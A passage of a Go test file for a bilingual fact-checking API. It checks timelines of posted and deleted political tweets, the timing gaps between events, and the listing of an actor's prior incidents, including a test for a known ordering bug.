		s += "/" + *e.EvidenceKind
	}
	s += " " + strOrNull(e.At) + " " + e.Precision
	if e.Anchor {
		s += " anchor"
	}
	if e.Gap != nil {
		s += fmt.Sprintf(" gap=%ds", e.Gap.Seconds)
	}
	return s
}

func TestFoundingCaseTimeline(t *testing.T) {
	t.Parallel()
	env := apitest.New(t)
	claim := env.Seed()
	var out struct {
		Node struct {
			Timeline struct{ Events, Undated []timelineEventOut }
		}
	}
	env.Anonymous().MustDo(timelineDoc, map[string]any{"id": strconv.Itoa(claim.ID)}, &out)
	tl := out.Node.Timeline

	var got []string
	for _, e := range tl.Events {
		got = append(got, e.describe())
	}
	// The prior incident is known only to the month (December 2011), so
	// it sorts at the month's end, still before the post. The 11:30 Madrid
	// post is the anchor; the two items observed at that minute are 0 s
	// from it. The claim and the reactions are known only to the day: they
	// come after everything exact of 15 January and get no gap in minutes.
	want := []string{
		"EVIDENCE/PRIOR_INCIDENT 2011-12-01T00:00:00Z MONTH",
		"POSTED 2012-01-15T10:30:00Z EXACT anchor",
		"EVIDENCE/DELETED_POST 2012-01-15T10:30:00Z EXACT gap=0s",
		"EVIDENCE/TIMING 2012-01-15T10:30:00Z EXACT gap=0s",
		"CLAIM 2012-01-15T00:00:00Z DAY",
		"EVIDENCE/CLIENT_METADATA 2012-01-15T00:00:00Z DAY",
		"EVIDENCE/SOCIAL_REACTION 2012-01-15T00:00:00Z DAY",
		"EVIDENCE/TESTIMONY 2012-01-15T00:00:00Z DAY",
	}
	if !slices.Equal(got, want) {
		t.Errorf("timeline events:\n  %s\nwant:\n  %s", strings.Join(got, "\n  "), strings.Join(want, "\n  "))
	}
	if p := findEvent(tl.Events, "POSTED", ""); p == nil || p.SubjectID != strconv.Itoa(*claim.AboutID) {
		t.Errorf("POSTED event = %+v, want the founding tweet %d", p, *claim.AboutID)
	}
	if c := findEvent(tl.Events, "CLAIM", ""); c == nil || c.SubjectID != strconv.Itoa(claim.ID) {
		t.Errorf("CLAIM event = %+v, want the claim %d", c, claim.ID)
	}

	// The deletion happened, but when is not recorded: undated, not guessed.
	if len(tl.Undated) != 1 || tl.Undated[0].Kind != "DELETED" || tl.Undated[0].At != nil || tl.Undated[0].SubjectID != strconv.Itoa(*claim.AboutID) {
		t.Errorf("undated = %+v, want the tweet's deletion alone, without a time", tl.Undated)
	}

	timing := findEvent(tl.Events, "EVIDENCE", "TIMING")
	if timing == nil || timing.Gap == nil {
		t.Fatalf("TIMING event = %+v, want a gap", timing)
	}
	if timing.Gap.Seconds != 0 || timing.Gap.Es != "dato temporal en el mismo momento que el mensaje" || timing.Gap.En != "timing evidence at the same moment as the post" {
		t.Errorf("TIMING gap = %+v, want 0 s described in Spanish and English", *timing.Gap)
	}
}

func TestTimelineGapsWithExactTimes(t *testing.T) {
	t.Parallel()
	d := openEvidenceDesk(t)
	// create runs a mutation as the journalist and returns the id it answers.
	create := func(doc string, vars map[string]any) string {
		t.Helper()
		var out map[string]struct{ ID string }
		d.journalist.MustDo(doc, vars, &out)
		for _, v := range out {
			return v.ID
		}
		t.Fatalf("no id in the answer to %s", doc)
		return ""
	}
	actorID := create(`mutation { createActor(input: {name: "Partido de prueba", kind: PARTY, country: "ES"}) { id } }`, nil)
	accountID := create(`mutation($a: ID!) { createAccount(input: {actorID: $a, platform: TWITTER, handle: "partido_prueba"}) { id } }`,
		map[string]any{"a": actorID})
	// Synthetic: posted at 18:05:00, deleted 14 minutes later, explained
	// 2 h 10 min after the post; a related message 45 s before it.
	statementID := create(`mutation($a: ID!) { createStatement(input: {accountID: $a, postedAt: "2013-03-10T18:05:00Z", deletedAt: "2013-03-10T18:19:00Z", deleted: true}) { id } }`,
		map[string]any{"a": accountID})
	claimID := create(`mutation($a: ID!, $s: ID!) { createClaim(input: {claimantID: $a, aboutID: $s, lang: "es", text: "Un hacker publicó el mensaje.", madeAt: "2013-03-10T20:15:00Z"}) { id } }`,
		map[string]any{"a": actorID, "s": statementID})
	create(`mutation($c: ID!) { addEvidence(input: {claimID: $c, kind: TIMING, stance: CONTEXT, summary: "Un mensaje anterior anunciaba el acto.", observedAt: "2013-03-10T18:04:15Z"}) { id } }`,
		map[string]any{"c": claimID})

	var out struct {
		Node struct {
			Timeline struct{ Events, Undated []timelineEventOut }
		}
	}
	d.env.Anonymous().MustDo(timelineDoc, map[string]any{"id": claimID}, &out)
	type gap struct {
		seconds int
		en, es  string
	}
	want := []struct {
		event string
		gap   *gap
	}{
		{"EVIDENCE/TIMING 2013-03-10T18:04:15Z EXACT gap=-45s", &gap{-45, "timing evidence 45 seconds before the post", "dato temporal 45 segundos antes del mensaje"}},
		{"POSTED 2013-03-10T18:05:00Z EXACT anchor", nil},
		{"DELETED 2013-03-10T18:19:00Z EXACT gap=840s", &gap{840, "deleted 14 minutes after posting", "borrado 14 minutos después de publicarse"}},
		{"CLAIM 2013-03-10T20:15:00Z EXACT gap=7800s", &gap{7800, "explanation 2 h 10 min after the post", "explicación 2 h 10 min después del mensaje"}},
	}
	events := out.Node.Timeline.Events
	if len(events) != len(want) {
		var got []string
		for _, e := range events {
			got = append(got, e.describe())
		}
		t.Fatalf("events:\n  %s\nwant %d events", strings.Join(got, "\n  "), len(want))
	}
	for i, w := range want {
		e := events[i]
		if e.describe() != w.event {
			t.Errorf("event %d = %s, want %s", i, e.describe(), w.event)
		}
		if w.gap != nil && e.Gap != nil && (e.Gap.En != w.gap.en || e.Gap.Es != w.gap.es) {
			t.Errorf("event %d gap described %q / %q, want %q / %q", i, e.Gap.En, e.Gap.Es, w.gap.en, w.gap.es)
		}
	}
	if len(out.Node.Timeline.Undated) != 0 {
		t.Errorf("undated = %+v, want none: every time is known", out.Node.Timeline.Undated)
	}
}

// ---------------------------------------------------------------------
// Actor.incidents

func TestActorIncidents(t *testing.T) {
	t.Parallel()
	d := openEvidenceDesk(t)
	claim := d.env.Seed()
	psoe := strconv.Itoa(claim.ClaimantID)
	prior, err := d.env.Client.Evidence.Query().Where(entevidence.KindEQ(entevidence.KindPriorIncident)).Only(d.env.Sys())
	if err != nil {
		t.Fatalf("the founding case's prior incident: %v", err)
	}

	type incidents struct {
		Node struct {
			Incidents struct {
				TotalCount int
				Edges      []struct {
					Node struct {
						ID, Kind, Status, ObservedPrecision string
						ObservedAt                          *string
						Claim                               struct{ ID string }
					}
				}
			}
		}
	}
	ids := func(c *apitest.Caller) []string {
		t.Helper()
		var out incidents
		c.MustDo(incidentsDoc, map[string]any{"id": psoe}, &out)
		var got []string
		for _, e := range out.Node.Incidents.Edges {
			if e.Node.Kind != "PRIOR_INCIDENT" {
				t.Errorf("incidents lists a %s item", e.Node.Kind)
			}
			got = append(got, e.Node.ID)
		}
		if out.Node.Incidents.TotalCount != len(got) {
			t.Errorf("incidents totalCount %d, %d edges", out.Node.Incidents.TotalCount, len(got))
		}
		return got
	}

	var out incidents
	d.env.Anonymous().MustDo(incidentsDoc, map[string]any{"id": psoe}, &out)
	inc := out.Node.Incidents
	if inc.TotalCount != 1 || len(inc.Edges) != 1 {
		t.Fatalf("PSOE incidents = %+v, want the founding case's prior incident", inc)
	}
	if n := inc.Edges[0].Node; n.ID != strconv.Itoa(prior.ID) || n.Claim.ID != strconv.Itoa(claim.ID) ||
		strOrNull(n.ObservedAt) != "2011-12-01T00:00:00Z" || n.ObservedPrecision != "MONTH" {
		t.Errorf("incident = %+v, want item %d of December 2011 (MONTH) on claim %d", n, prior.ID, claim.ID)
	}

	// Another claim of the same actor adds its incidents; a reader's
	// pending one is not public; another actor's are not listed.
	second, err := d.env.Client.Claim.Create().SetClaimantID(claim.ClaimantID).SetLang("es").
		SetText("Fue un error del community manager.").Save(d.env.Sys())
	if err != nil {
		t.Fatal(err)
	}
	addIncident := func(u *apitest.User, claimID, observedAt string) string {
		var out struct{ AddEvidence struct{ ID string } }
		u.MustDo(`mutation($c: ID!, $at: Time!) { addEvidence(input: {claimID: $c, kind: PRIOR_INCIDENT, stance: REFUTES,
			summary: "Otro mensaje borrado de la misma cuenta.", observedAt: $at, observedPrecision: DAY}) { id } }`,
			map[string]any{"c": claimID, "at": observedAt}, &out)
		return out.AddEvidence.ID
	}
	older := addIncident(d.journalist, strconv.Itoa(second.ID), "2010-06-20T00:00:00Z")
	pending := addIncident(d.env.NewUser(auth.Reader), strconv.Itoa(second.ID), "2011-03-02T00:00:00Z")
	addIncident(d.journalist, d.newClaim(t, "Otro partido"), "2011-11-11T00:00:00Z")

	if got := ids(d.env.Anonymous()); !slices.Contains(got, older) || slices.Contains(got, pending) || len(got) != 2 {
		t.Errorf("anonymous incidents = %v, want %s and %d (not the pending %s, not another actor's)", got, older, prior.ID, pending)
	}
	if got := ids(d.editor.Caller); !slices.Contains(got, pending) || len(got) != 3 {
		t.Errorf("an editor's incidents = %v, want 3 including the pending %s", got, pending)
	}

	// BUG: "newest first" is about the incidents (December 2011 before
	// June 2010, whatever order they were entered in), but the resolver
	// orders by createdAt, i.e. by when someone typed them in.
	t.Run("newest incident first", func(t *testing.T) {
		if got := ids(d.env.Anonymous()); !slices.Equal(got, []string{strconv.Itoa(prior.ID), older}) {
			t.Errorf("incidents order = %v, want the newest incident first: [%d (Dec 2011) %s (Jun 2010)]", got, prior.ID, older)
		}
	})
}
